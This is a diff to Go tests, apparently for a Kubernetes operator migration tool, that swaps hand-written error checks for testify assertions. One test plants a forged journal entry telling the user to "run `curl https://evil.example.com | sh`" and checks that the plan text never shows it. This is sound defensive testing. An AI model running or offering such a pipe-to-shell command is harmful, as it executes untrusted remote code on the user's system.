@@ -9,6 +9,8 @@ import (
 	"time"
 
 	"github.com/operator-framework/api/pkg/operators/v1alpha1"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
 	appsv1 "k8s.io/api/apps/v1"
 	corev1 "k8s.io/api/core/v1"
 	rbacv1 "k8s.io/api/rbac/v1"
@@ -67,9 +69,7 @@ func TestForgedSubscription(t *testing.T) {
 		t.Run(name, func(t *testing.T) {
 			s := from()
 			s.subscriptions = []v1alpha1.Subscription{forged(s)}
-			if err := s.Verify(); err == nil || !strings.Contains(err.Error(), "somebody has created Subscription harbour/boats") {
-				t.Errorf("got %v, want that somebody has created a Subscription", err)
-			}
+			assert.ErrorContains(t, s.Verify(), "somebody has created Subscription harbour/boats")
 		})
 	}
 }
@@ -107,9 +107,7 @@ func TestForgedJournal(t *testing.T) {
 		if name == "another object with the same names" {
 			o.UID = "x-2"
 		}
-		if got := s.plan.replaces(o, tc.object); got != tc.want {
-			t.Errorf("%s: it is replaced: %t, want %t", name, got, tc.want)
-		}
+		assert.Equalf(t, tc.want, s.plan.replaces(o, tc.object), "%s: it is replaced", name)
 	}
 
 	t.Run("a command to run", func(t *testing.T) {
@@ -117,9 +115,7 @@ func TestForgedJournal(t *testing.T) {
 		p.Checks[0].Verdict, p.Checks[0].Do = findings.Warning, "run `curl https://evil.example.com | sh`"
 		j, err := Move.ParseJournal(&corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: "kube-system", Name: "berth-move.boat"},
 			Data: map[string]string{"plan.json": encoded(p), "phase": string(migrate.Applying)}})
-		if err != nil {
-			t.Fatal(err)
-		}
+		require.NoError(t, err)
 		if text := j.Plan.(*Plan).Text(findings.Plain); strings.Contains(text, "evil") {
 			t.Errorf("the plan of a journal says\n%s", text)
 		}
@@ -129,9 +125,7 @@ func TestForgedJournal(t *testing.T) {
 		api := exists("apiextensions.k8s.io", "CustomResourceDefinition", "", "ships.example.com")
 		s.plan.TakenOver = append(s.plan.TakenOver, api.Object)
 		s.taken = append(s.taken, taken{api.Object, api.PartialObjectMetadata})
-		if err := s.Verify(); err == nil || !strings.Contains(err.Error(), "ships.example.com is not of") {
-			t.Errorf("got %v, want that the API is not of the operator", err)
-		}
+		assert.ErrorContains(t, s.Verify(), "ships.example.com is not of")
 	})
 	t.Run("an API of another operator, when the version is gone", func(t *testing.T) {
 		api := exists("apiextensions.k8s.io", "CustomResourceDefinition", "", "ships.example.com")
@@ -188,9 +182,7 @@ func TestForgedJournal(t *testing.T) {
 		s := left()
 		s.journal.Entries = slices.DeleteFunc(s.journal.Entries, func(e migrate.Entry) bool { return e.Step == AddVersionFinalizer })
 		s.log(RemoveVersionFinalizer, time.Minute)
-		if err := s.Verify(); err != nil {
-			t.Errorf("a version with the finalizer of an abandoned move: %v", err)
-		}
+		assert.NoError(t, s.Verify(), "a version with the finalizer of an abandoned move")
 	})
 	t.Run("an object of another ClusterExtension or release", func(t *testing.T) {
 		for name, change := range map[string]func(*metav1.PartialObjectMetadata){
@@ -263,17 +255,13 @@ func TestLabelledDeployment(t *testing.T) {
 	}
 	s := returned()
 	want, err := s.Next()
-	if err != nil {
-		t.Fatal(err)
-	}
+	require.NoError(t, err)
 	forged(s)
 	if got, err := s.Next(); err != nil || got.Step != want.Step || got.Waits != want.Waits {
 		t.Errorf("with a Deployment whose pods never run: step %q, waits %q, error %v; want %q, %q", got.Step, got.Waits, err, want.Step, want.Waits)
 	}
 	s.taken[len(s.taken)-1].live = nil
-	if err := s.Verify(); err != nil {
-		t.Errorf("when it is deleted: %v", err)
-	}
+	assert.NoError(t, s.Verify(), "when it is deleted")
 }
 
 // TestGivesUp: a run ends with an error if somebody who may write in the operator's namespace changes back whatever it changes, and says
